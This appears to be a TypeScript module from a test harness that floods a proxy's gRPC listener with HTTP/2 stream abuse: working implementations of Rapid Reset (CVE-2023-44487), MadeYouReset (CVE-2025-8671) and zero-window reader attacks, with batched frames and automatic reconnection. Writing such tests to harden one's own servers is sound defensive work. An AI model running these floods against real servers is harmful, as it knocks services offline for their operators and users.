/**
 * HTTP/2 stream abuse against the gRPC listener: Rapid Reset (CVE-2023-44487:
 * HEADERS then RST_STREAM, in a loop), MadeYouReset (CVE-2025-8671: HEADERS
 * then a frame the server must answer with RST_STREAM, here WINDOW_UPDATE
 * with increment 0, RFC 9113 §6.9), and zero-window readers (the client
 * advertises INITIAL_WINDOW_SIZE 0 and opens many server-streaming calls,
 * so every reply byte must wait in the proxy).
 */
import type net from 'node:net';
import {
  aborted,
  drained,
  reconnecting,
  Tracker,
  turn,
  type Attack,
  type AttackOutcome,
  type Target,
} from './kit.js';
import {
  allowedStreams,
  clientPreface,
  echoRequestMessage,
  FLAG,
  frame,
  frame32,
  FRAME,
  grpcRequestBlock,
  newEncoder,
  SERVER_STREAM_PATH,
  SETTING,
  UNARY_PATH,
  watch,
} from './h2-wire.js';

/** Attacking connections at once; each reconnects when the proxy ends it. */
export const CHURN_CONNECTIONS = 2;
/** Streams written per write() call. */
const CHURN_BATCH = 100;
/** The highest client stream id (RFC 9113 §5.1.1), less a batch. */
const LAST_STREAM_ID = 0x7fff_ffff - 2 * CHURN_BATCH;
const CANCEL = 0x8;

export const ZERO_WINDOW_CONNECTIONS = 2;
/** Streams opened per connection at most (fewer when the proxy advertises a lower limit). */
const ZERO_WINDOW_STREAMS = 1000;
const ZERO_WINDOW_REPLIES = 1000;
const ZERO_WINDOW_REPLY_BYTES = 1000;

/** The frame that follows each HEADERS. */
type Tail = (streamId: number) => Buffer;

/** One connection opening and ending streams in batches until the proxy stops it or the attack ends. */
async function churnConnection(
  socket: net.Socket,
  target: Target,
  tracker: Tracker,
  tail: Tail,
  signal: AbortSignal,
): Promise<void> {
  const watched = watch(socket, tracker);
  const encoder = newEncoder();
  socket.write(clientPreface());
  let id = 1;
  while (!signal.aborted && socket.writable && !watched.goaway && id < LAST_STREAM_ID) {
    const parts: Buffer[] = [];
    for (let i = 0; i < CHURN_BATCH; i++, id += 2) {
      const block = grpcRequestBlock(encoder, target.port, UNARY_PATH);
      parts.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, id, block), tail(id));
    }
    socket.write(Buffer.concat(parts));
    tracker.count('streams', CHURN_BATCH);
    await drained(socket, signal);
    await turn();
  }
}

async function churn(target: Target, signal: AbortSignal, tail: Tail): Promise<AttackOutcome> {
  const tracker = new Tracker(target.port);
  await reconnecting(tracker, CHURN_CONNECTIONS, signal, (socket) =>
    churnConnection(socket, target, tracker, tail, signal),
  );
  return tracker.finish();
}

export const rapidReset: Attack = {
  id: 'h2-rapid-reset',
  family: 'grpc',
  summary: `${CHURN_CONNECTIONS} connections: HEADERS (Unary call) + RST_STREAM CANCEL, ${CHURN_BATCH} per write, reconnecting when closed`,
  run: (target, signal) => churn(target, signal, (id) => frame32(FRAME.RST_STREAM, id, CANCEL)),
};

export const madeYouReset: Attack = {
  id: 'h2-madeyoureset',
  family: 'grpc',
  summary: `${CHURN_CONNECTIONS} connections: HEADERS (Unary call) + WINDOW_UPDATE increment 0 on that stream, ${CHURN_BATCH} per write, reconnecting when closed`,
  run: (target, signal) => churn(target, signal, (id) => frame32(FRAME.WINDOW_UPDATE, id, 0)),
};

/** One zero-window connection: waits for the proxy's SETTINGS, then opens as many streams as it allows. */
async function zeroWindowConnection(socket: net.Socket, tracker: Tracker, target: Target) {
  const watched = watch(socket, tracker);
  const streams = await allowedStreams(socket, watched, ZERO_WINDOW_STREAMS, [
    [SETTING.INITIAL_WINDOW_SIZE, 0],
  ]);
  const encoder = newEncoder();
  const body = echoRequestMessage('x'.repeat(ZERO_WINDOW_REPLY_BYTES), ZERO_WINDOW_REPLIES);
  const parts: Buffer[] = [];
  for (let i = 0, id = 1; i < streams; i++, id += 2) {
    const block = grpcRequestBlock(encoder, target.port, SERVER_STREAM_PATH);
    parts.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, id, block));
    parts.push(frame(FRAME.DATA, FLAG.END_STREAM, id, body));
  }
  if (socket.writable) socket.write(Buffer.concat(parts));
  tracker.count('streams', streams);
}

export const zeroWindow: Attack = {
  id: 'h2-zero-window',
  family: 'grpc',
  summary: `${ZERO_WINDOW_CONNECTIONS} connections with INITIAL_WINDOW_SIZE 0, each opening up to ${ZERO_WINDOW_STREAMS} ServerStream calls (${ZERO_WINDOW_REPLIES} x ${ZERO_WINDOW_REPLY_BYTES}-byte replies), never a WINDOW_UPDATE`,
  async run(target, signal): Promise<AttackOutcome> {
    const tracker = new Tracker(target.port);
    const sockets = await tracker.openMany(ZERO_WINDOW_CONNECTIONS, signal, () => undefined);
    await Promise.all(sockets.map((socket) => zeroWindowConnection(socket, tracker, target)));
    await aborted(signal);
    return tracker.finish();
  },
};

export const H2_STREAM_ATTACKS: readonly Attack[] = [rapidReset, madeYouReset, zeroWindow];
